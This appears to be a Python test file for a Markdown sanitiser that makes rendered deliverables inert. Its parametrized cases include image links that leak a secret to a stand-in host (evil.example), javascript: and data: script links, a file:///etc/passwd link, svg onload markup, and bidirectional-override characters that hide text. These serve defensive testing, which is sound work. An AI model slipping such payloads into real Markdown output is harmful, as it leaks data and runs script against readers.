"""Deliverables as Markdown renderers see them: nothing loads, nothing runs, and links lead to the web only."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from lxml import html
from markdown_it import MarkdownIt
from markdown_it.token import Token

from frasier.interfaces.deliverable_rendering.html_page import render_html
from frasier.interfaces.deliverable_rendering.safe_markdown import inert
from support.published import published

MARKDOWN = MarkdownIt("commonmark").enable("table")
MARKDOWN.validateLink = lambda _url: True  # type: ignore[method-assign]  # other renderers are not as careful
HARMLESS = re.compile(r"(?:https?://|mailto:|#|[\w./~%-]*(?:[?#].*)?$)")


def _tokens(markdown: str) -> list[Token]:
    return [token for block in MARKDOWN.parse(markdown) for token in (block, *(block.children or ()))]


def _active(markdown: str) -> list[str]:
    """What of a text would load or run: its kind and content, each."""
    found = []
    for token in _tokens(markdown):
        if token.type in {"image", "html_inline", "html_block"}:
            found.append(f"{token.type}: {token.content}")
        if token.type == "link_open" and not HARMLESS.match(str(token.attrs["href"])):
            found.append(f"link: {token.attrs['href']}")
    return found


@pytest.mark.parametrize(
    "attack",
    [
        "![](http://evil.example/?q=secret)",
        "\\\\![x](http://evil.example/a.png)",
        "![x][1]\n\n[1]: http://evil.example/a.png",
        "[![x](http://evil.example/a.png)](http://evil.example)",
        "<img src='http://evil.example/a.png'>",
        "<script>alert(1)</script>",
        "<!-- hidden -->",
        "<?php x ?>",
        "<!DOCTYPE x>",
        "- item\n  ```\n<img src=x>\n  ```",
        "> ```\n<img src=x>\n> ```",
        "`a\n` <img src=x> `",
        "# a `\n<img src=x> `",
        "| ` | <img src=x> | ` |\n|---|---|---|",
        "    ```\n<img src=x>",
        "```a`b\n<img src=x>",
        "````\n```\n````\n<img src=x>",
        "~~~\n```\n~~~\n<img src=x>",
        "[x](javascript:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](  \njavascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x]\n\n[x]: javascript:alert(1)",
        "[x]\n\n[x]:\njavascript:alert(1)",
        "[^1]\n\n[^1]: javascript:alert(1)",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](file:///etc/passwd)",
        "[x](vbscript:x) and <javascript:alert(1)>",
    ],
)
def test_this_is_active_and_becomes_inert(attack: str) -> None:
    assert _active(attack)
    assert _active(inert(attack)) == []


@pytest.mark.parametrize(
    "text",
    ["\\![x](http://evil.example/a.png)", "text <svg/onload=alert(1)> text", "> ```\n> <img src=x>\n> ```"],
)
def test_what_only_some_renderers_hold_for_active_is_inert_for_all(text: str) -> None:
    assert "![" not in inert(text)
    assert "<svg" not in inert(text)
    assert "<img" not in inert(text)


@pytest.mark.parametrize(
    "turned",
    [
        "a\u202eb",
        "a&#x202e;b",
        "a&#8238;b",
        "a&#X0000202E;b",
        "a&#x20&#x202e;2e;b",
        "a&#x20\u202e2e;b",
        "a&#xe0041;b",
    ],
)
def test_no_reference_turns_or_hides_the_text_behind_it(turned: str) -> None:
    rendered = MARKDOWN.render(inert(turned))
    assert not {"\u202e", "\U000e0041"} & set(rendered)
    page = html.document_fromstring(render_html(published(turned))).text_content()
    assert not {"\u202e", "\U000e0041"} & set(page)


def test_other_references_stay() -> None:
    assert inert("5 &#8364; &amp; more &#x2014; x") == "5 &#8364; &amp; more &#x2014; x"


_PIECES = [
    *(
        "!",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        ":",
        "\\",
        "`",
        "```",
        "~~~",
        "|",
        "\n",
        "\n\n",
        "- ",
        "> ",
        "    ",
        "# ",
        " ",
    ),
    *(
        "x",
        "[x]",
        "![",
        "](",
        "]:",
        "img src=x",
        "script",
        "/",
        "!--",
        "http://e.example",
        "javascript:a",
        "&#58;",
        "^1",
    ),
]


@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
@example("```\n<img>\n```")
def test_no_combination_of_pieces_stays_active(markdown: str) -> None:
    assert _active(inert(markdown)) == []


@pytest.mark.parametrize(
    "harmless",
    [
        "# Drinks\n\nTea is brewed at 75 degrees. [1]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "See [the page](https://example.org/a_(b)?c=d#e), [below](#sources) or [the notes](steps/notes.md).\n",
        "Write to <mailto:a@example.org> or look at <https://example.org/x>.\n",
        "It costs < 5 and is > 3; a <- b, and 2 <3.\n",
        "```html\n<script>alert('an example')</script>\n![x](y)\n```\n\nText.\n",
        "What a day! [1]\n\n[1]: https://example.org\n",
        "[Note]: nothing to see\n",
    ],
)
def test_ordinary_text_and_blocks_of_code_stay_as_they_are(harmless: str) -> None:
    assert inert(harmless) == harmless


def test_what_turns_or_hides_text_is_taken_out() -> None:
    assert inert("pay \u202e001\u202c euros\U000e0041 नमस्ते \u200d") == "pay 001 euros नमस्ते \u200d"
